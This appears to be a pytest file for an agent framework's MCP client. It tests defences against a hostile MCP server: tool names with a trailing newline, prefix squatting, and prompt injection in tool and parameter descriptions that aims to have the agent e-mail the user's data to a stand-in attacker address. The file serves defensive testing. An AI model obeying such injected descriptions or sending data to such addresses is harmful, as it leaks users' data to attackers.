@@ -1,0 +1,238 @@
+"""Findings of an outside probe of the MCP client, against real servers: the project's hostile
+stdio server (tests/mcp_evil_server.py), mcp-server-time from the package index, a FastMCP
+server over streamable HTTP and the `loomgraph` command.
+
+- a tool name ending in a newline is not a name (rules written for `transfer` would miss it);
+- a server's prefix is its own: another server cannot list tools under it and so inherit
+  the rules written for it (`allow: ["time_*"]`);
+- what a server not trusted writes in its tools' descriptions and schemas is untrusted text;
+- an MCP server's URL is shown with its credentials masked, and the command says in one line
+  that a server cannot start.
+"""
+
+from __future__ import annotations
+
+import json
+import logging
+import socket
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from loomgraph import Agent, tool
+from loomgraph.governance import StandardPermissions
+from loomgraph.models import ScriptedModel
+from loomgraph.tools import MCPServer, MCPServerError
+from mcp_servers import PYTHON
+
+EVIL = str(Path(__file__).with_name("mcp_evil_server.py"))
+TIME = ("-m", "mcp_server_time", "--local-timezone", "UTC")
+# A loaded machine starts Python slowly.
+SLOW: dict[str, Any] = {"start_timeout": 600.0, "timeout": 600.0}
+ROOT = Path(__file__).parents[1]
+ATTACKER = "exfil.drop@attacker-mail.example"
+
+
+def evil(mode: str, state: Path | None = None, **options: Any) -> MCPServer:
+    args = [EVIL, mode, *([str(state)] if state else [])]
+    name = options.pop("name", "evil")
+    return MCPServer.stdio(PYTHON, *args, name=name, **{**SLOW, **options})
+
+
+def calls(name: str, args: dict[str, Any]) -> dict[str, Any]:
+    return {"tool_calls": [{"tool": name, "args": args}]}
+
+
+def received(state: Path) -> list[dict[str, Any]]:
+    if not state.exists():
+        return []
+    entries = [json.loads(line) for line in state.read_text().splitlines()]
+    return [entry for entry in entries if "name" in entry]
+
+
+def of_kind(events: list[Any], kind: str) -> list[dict[str, Any]]:
+    return [e.payload for e in events if e.kind == kind]
+
+
+@tool(egress=True)
+def send_email(to: str, body: str) -> str:
+    """Send an e-mail."""
+    return f"sent to {to}"
+
+
+# ------------------------------------------------------------------ a name ends with its text
+
+
+async def test_a_tool_name_ending_in_a_newline_is_not_offered(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.WARNING, logger="loomgraph.tools.mcp")
+    log = tmp_path / "log"
+
+    @tool
+    def transfer(amount: int = 0) -> str:
+        """The local transfer."""
+        return "local transfer ran"
+
+    server = evil("newline", log, trust=True)
+    script: list[Any] = [calls("transfer\n", {}), "done"]
+    rules = StandardPermissions(deny=["transfer"], allow=["*"])
+    async with Agent(
+        "x", model=ScriptedModel(script), tools=[transfer, server], permissions=rules
+    ) as agent:
+        events = [e async for e in agent.stream("go")]
+        names = [s["name"] for s in agent.deps.tools.specs()]
+    assert names == ["transfer", "ok_tool"]  # and no ToolNameCollision with the local one
+    (result,) = [p["result"] for p in of_kind(events, "tool_result")]
+    assert result["error_type"] == "unknown_tool"
+    assert received(log) == []
+    assert any("'transfer\\n' is not offered" in r.getMessage() for r in caplog.records)
+
+
+def test_names_ending_in_a_newline_are_refused_everywhere() -> None:
+    with pytest.raises(ValueError, match="invalid tool name"):
+        tool(name="transfer\n")(lambda: "x")
+    with pytest.raises(ValueError, match="invalid MCP server name"):
+        MCPServer.stdio("x", name="evil\n")
+    with pytest.raises(ValueError, match="invalid tool prefix"):
+        MCPServer.stdio("x", name="evil", prefix="time\n")
+
+
+# ------------------------------------------------------------------ a prefix is owned
+
+
+async def test_a_server_cannot_list_tools_under_another_servers_prefix(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.WARNING, logger="loomgraph.tools.mcp")
+    log = tmp_path / "log"
+    time = MCPServer.stdio(PYTHON, *TIME, name="time", prefix="time", **SLOW)
+    squatter = evil("squat:time_get_secret", log)  # no prefix: its names are its own
+    script: list[Any] = [
+        calls("time_get_secret", {}),
+        calls("time_get_current_time", {"timezone": "UTC"}),
+        "done",
+    ]
+    rules = StandardPermissions(allow=["time_*"])  # as docs/tools.md recommends
+    async with Agent(
+        "x", model=ScriptedModel(script), tools=[time, squatter], permissions=rules
+    ) as agent:
+        events = [e async for e in agent.stream("go")]
+        names = sorted(s["name"] for s in agent.deps.tools.specs())
+    assert names == ["ok_tool", "time_convert_time", "time_get_current_time"]
+    secret, current = [p["result"] for p in of_kind(events, "tool_result")]
+    assert secret["error_type"] == "unknown_tool"
+    # The time server's own tool is allowed as ever: its parameter name `timezone`, in its
+    # description, does not make the call look tainted.
+    assert not current["is_error"]
+    assert received(log) == []
+    warnings = "\n".join(r.getMessage() for r in caplog.records)
+    assert "'time_get_secret' is not offered" in warnings and "'time'" in warnings
+
+
+def test_two_servers_cannot_share_a_prefix() -> None:
+    for first, second in (("time", "time"), ("a", "a_b")):
+        one = MCPServer.stdio("x", name="one", prefix=first)
+        two = MCPServer.stdio("x", name="two", prefix=second)
+        with pytest.raises(ValueError, match="overlapping tool prefixes"):
+            Agent("x", model=ScriptedModel(["done"]), tools=[one, two])
+
+
+# ------------------------------------------------------------------ descriptions are untrusted
+
+
+@pytest.mark.parametrize(
+    ("address", "trust", "verdict"),
+    [
+        (ATTACKER, False, "ask"),  # in the tool's description
+        ("audit.copy@attacker-mail.example", False, "ask"),  # in a parameter's description
+        (ATTACKER, True, "allow"),  # a server you trust wrote it
+    ],
+)
+async def test_a_tool_description_is_untrusted_text(
+    address: str, trust: bool, verdict: str
+) -> None:
+    server = evil("inject", trust=trust)
+    script: list[Any] = [calls("send_email", {"to": address, "body": "the user's data"}), "done"]
+    rules = StandardPermissions(allow=["send_email"])
+    async with Agent(
+        "x", model=ScriptedModel(script), tools=[send_email, server], permissions=rules
+    ) as agent:
+        events = [e async for e in agent.stream("what's the weather?")]
+    (decision,) = of_kind(events, "permission_decision")
+    assert decision["verdict"] == verdict
+    if verdict == "ask":
+        assert decision["rule"] == "taint:egress" and decision["tainted"]
+
+
+async def test_a_description_listed_during_a_run_is_untrusted_in_that_run(tmp_path: Path) -> None:
+    log = tmp_path / "log"
+    server = evil("inject_late", log)  # `weather` is listed after a call of `own`
+    script: list[Any] = [
+        calls("own", {}),
+        calls("send_email", {"to": ATTACKER, "body": "the user's data"}),
+        "done",
+    ]
+    rules = StandardPermissions(allow=["own", "send_email"])
+    async with Agent(
+        "x", model=ScriptedModel(script), tools=[send_email, server], permissions=rules
+    ) as agent:
+        events = [e async for e in agent.stream("go")]
+        assert "weather" in [s["name"] for s in agent.deps.tools.specs()]
+    own, mail = of_kind(events, "permission_decision")
+    assert own["verdict"] == "allow"
+    assert (mail["verdict"], mail["rule"]) == ("ask", "taint:egress")
+
+
+# ------------------------------------------------------------------ credentials in a URL
+
+SECRET_URL = "http://reader:pw-hunter22@127.0.0.1:{port}/mcp?api_key=sk-live-4f9a8b7c6d&v=2"
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port: int = sock.getsockname()[1]
+    return port
+
+
+def assert_masked(text: str) -> None:
+    for secret in ("pw-hunter22", "sk-live-4f9a8b7c6d", "reader"):
+        assert secret not in text
+
+
+async def test_a_server_url_is_shown_with_its_credentials_masked() -> None:
+    url = SECRET_URL.format(port=free_port())  # nothing listens there
+    server = MCPServer.http(url, name="remote", start_timeout=60)
+    assert server.describe().startswith("http://***@127.0.0.1:")
+    assert server.describe().endswith("/mcp?api_key=***&v=***")
+    assert_masked(repr(server))
+    with pytest.raises(MCPServerError) as caught:
+        await server.start()
+    assert "cannot start http://***@127.0.0.1:" in str(caught.value)
+    assert_masked(str(caught.value))
+    # An HTTP client's error names the URL it was for: what the model and the log read of it.
+    assert_masked(server.redact(f"Client error '401 Unauthorized' for url '{url}'"))
+
+
+def test_the_command_says_in_one_line_that_a_server_cannot_start(tmp_path: Path) -> None:
+    url = SECRET_URL.format(port=free_port())
+    agent = tmp_path / "agent.yaml"
+    agent.write_text(
+        "schema_version: 1\nname: m\nmodel: {name: echo}\ntools:\n"
+        f'  - {{mcp: http, url: "{url}", name: remote}}\n'
+    )
+    done = subprocess.run(
+        [sys.executable, "-m", "loomgraph.cli.main", "run", "hi", "--agent", str(agent)],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=300,
+    )
+    assert done.returncode == 2, done.stderr
+    (line,) = done.stderr.splitlines()
+    assert line.startswith("loomgraph: MCP server 'remote': cannot start http://***@127.0.0.1:")
+    assert_masked(done.stderr + done.stdout)
